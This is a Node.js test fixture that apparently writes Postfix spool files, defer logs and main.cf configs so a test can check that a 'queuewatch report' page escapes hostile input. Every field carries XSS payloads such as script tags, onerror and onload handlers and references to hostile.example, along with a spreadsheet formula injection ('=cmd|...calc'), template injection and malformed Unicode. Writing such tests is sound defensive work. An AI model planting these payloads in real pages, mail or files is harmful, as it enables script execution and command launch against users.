// Writes a spool whose mail tries to run in the page of queuewatch report, and the main.cf files of instances with names
// that try the same. Each name carries a mark, so that the test can tell where it comes out.
//
//   node hostile.mjs FOLDER EPOCH      FOLDER/spool, FOLDER/second, FOLDER/config
import { chmodSync, mkdirSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';

const run = 'globalThis.ran=1';
const away = 'https://hostile.example';

/** What each mark is wrapped in. */
const payloads = [
  (mark) => `<script>${run}</script>${mark}`,
  (mark) => `"><img src=x onerror=${run}>${mark}`,
  (mark) => `'><svg/onload=${run}>${mark}`,
  (mark) => `javascript:${run}//${mark}`,
  (mark) => `</script><script>${run}</script>${mark}`,
  (mark) => `</style></title></textarea><script src=${away}/x.js></script>${mark}`,
  (mark) => `--><![CDATA[]]><?php ?><!--${mark}<iframe src=${away}/>`,
  (mark) => `<meta http-equiv=refresh content=0;url=${away}/>${mark}`,
  (mark) => `<a href="javascript:${run}" autofocus onfocus="${run}">${mark}</a>`,
  (mark) => `<style>*{display:none;background:url(${away}/x.png)}</style>${mark}`,
  (mark) => `<base href=${away}/><link rel=stylesheet href=${away}/x.css>${mark}`,
  (mark) => `<form action=${away}/ id=queues name=documentElement><input name=cells autofocus>${mark}`,
  (mark) => `&lt;script&gt;&#60;img src=x onerror=${run}&#62;&amp;${mark}`,
  (mark) => `\0nul\0${mark}\x1b[31m\x07\x08\x7f\x85`,
  (mark) => `\u202e${mark}\u2066\u200f\u061c\u2028`,
  (mark) => `\u05d0\u05d1\u05d2 \u0627\u0644 ${mark} \u05d3`,
  (mark) => `${mark}\ufffe\uffff\ufdd0\u{1fffe}\ufeff\u200b\u{e0041}`,
  (mark) => Buffer.concat([Buffer.from(mark), Buffer.from([0xff, 0xfe, 0xc0, 0x80, 0xed, 0xa0, 0x80])]),
  (mark) => mark + 'w'.repeat(700),
  (mark) => `" onmouseover="${run}" style="position:fixed;inset:0" x="${mark}`,
  (mark) => `=cmd|'/c calc'!A1 ${mark} \${${run}} {{${run}}} %3Cscript%3E`,
  (mark) => `${mark}-with-a-name-that-is-long.and-has-dots.`.repeat(6),
];

const bytes = (text) => (Buffer.isBuffer(text) ? text : Buffer.from(text));
const join_ = (...parts) => Buffer.concat(parts.map(bytes));

/** A record of a queue file: type, length in groups of 7 bits, data (postfix.md, "Encoding of a record"). */
function record(type, data) {
  const content = bytes(data);
  const length = [];
  let left = content.length;
  do {
    length.push((left & 0x7f) | (left > 0x7f ? 0x80 : 0));
    left >>= 7;
  } while (left > 0);
  return join_(type, Buffer.from(length), content);
}

/** A queue file as cleanup writes it, and the offset of its recipient. */
function queueFile(arrival, attributes, sender, recipient, headers) {
  const before = [record('T', `${arrival} 0`)];
  for (const [name, value] of Object.entries(attributes)) before.push(record('A', join_(name, '=', value)));
  before.push(record('S', sender), record('O', recipient));
  const head = join_(...before);
  const content = join_(...headers.map((line) => record('N', line)), record('N', ''), record('N', 'text'));
  const at = 97 + head.length;
  const envelope = join_(head, record('R', recipient));
  const column = (number) => String(number).padStart(15);
  const numbers = [content.length, 97 + envelope.length + 2, 1, 0, content.length, 0].map(column).join(' ');
  return [join_(record('C', numbers), envelope, record('M', ''), content, record('X', ''), record('E', '')), at];
}

function write(path, content, mode) {
  mkdirSync(dirname(path), { recursive: true });
  writeFileSync(path, content);
  chmodSync(path, mode);
}

/** A defer log cannot hold a line break or a NUL (postfix.md): bounce(8) writes `?`. */
const oneLine = (text) => Buffer.from(bytes(text).map((byte) => (byte < 0x20 ? 0x3f : byte)));

function spool(folder, now, prefix) {
  for (const queue of ['active', 'deferred', 'incoming', 'hold', 'maildrop']) {
    mkdirSync(join(folder, queue), { recursive: true, mode: 0o700 });
  }
  chmodSync(join(folder, 'maildrop'), 0o730);
  payloads.forEach((payload, number) => {
    const of = (place) => payload(`${prefix}-${place}-${number}`);
    const recipient = join_(of('recipient'), '@', number % 2 ? of('domain') : `host${number}.example`);
    const [file, at] = queueFile(
      now - 3600 * (number + 2),
      {
        log_client_name: of('client-name'),
        log_client_address: of('client'),
        log_helo_name: of('helo'),
        log_protocol_name: 'ESMTPSA',
        client_address: of('client'),
        client_name: of('client-name'),
        helo_name: of('helo'),
        sasl_method: 'PLAIN',
        sasl_username: of('login'),
        sasl_sender: of('sasl-sender'),
      },
      join_(of('sender'), '@', of('sender-domain')),
      recipient,
      [join_('Subject: ', oneLine(of('subject'))), join_('From: ', oneLine(of('from'))), join_('Message-ID: <', oneLine(of('id')), '>')],
    );
    const id = (0xa000000 + number * 0x1111).toString(16).toUpperCase();
    const queue = ['deferred', 'deferred', 'deferred', 'hold', 'active'][number % 5];
    const place = queue === 'deferred' ? `${id[0]}/${id}` : id;
    write(join(folder, queue, place), file, 0o700);
    const reason = join_('host ', of('hop'), '[192.0.2.', String(number), '] said: 451 4.7.1 ', of('reason'), ' (in reply to RCPT TO command)');
    const name = oneLine(recipient);
    write(
      join(folder, 'defer', id[0], id),
      join_(
        '\n<', name, '>: ', oneLine(reason), '\nrecipient=', name, `\noffset=${at}\ndsn_orig_rcpt=rfc822;`, name,
        '\nstatus=', oneLine(number % 3 ? '4.7.1' : of('status')), '\naction=delayed\ndiag_type=smtp\ndiag_text=', oneLine(reason),
        '\nmta_type=dns\nmta_mname=', oneLine(of('server')), '\nreason=', oneLine(reason), '\n\n',
      ),
      0o600,
    );
  });
  // A message that is cut off in the middle is damaged, and the page names its path. Without corrupt there is a gap.
  write(join(folder, 'hold', 'DA3A6ED'), record('C', ' '.repeat(95)).subarray(0, 60), 0o700);
}

const [folder, epoch] = process.argv.slice(2);
const now = Number(epoch);
const names = [`<script>${run}</script>instance-first`, `"onload=${run}'instance-second\u202e`];
const places = [`"><img src=x onerror=${run}>place-first`, `'second<svg onload=${run}>\u05d0`];
places.forEach((place, number) => spool(join(folder, place), now, number ? 'second' : 'first'));
const config = (number) => join(folder, `config${number}`);
places.forEach((place, number) => {
  const lines = [
    'compatibility_level = 3.6',
    `queue_directory = ${join(folder, place)}`,
    `multi_instance_name = ${names[number]}`,
    `queue_run_delay = <img src=x onerror=${run}>setting`,
    number ? 'multi_instance_enable = yes' : `multi_instance_directories = ${config(1)} ${config(2)}<script>${run}</script>`,
  ];
  write(join(config(number), 'main.cf'), `${lines.join('\n')}\n`, 0o644);
});
console.log(join(folder, places[0]));
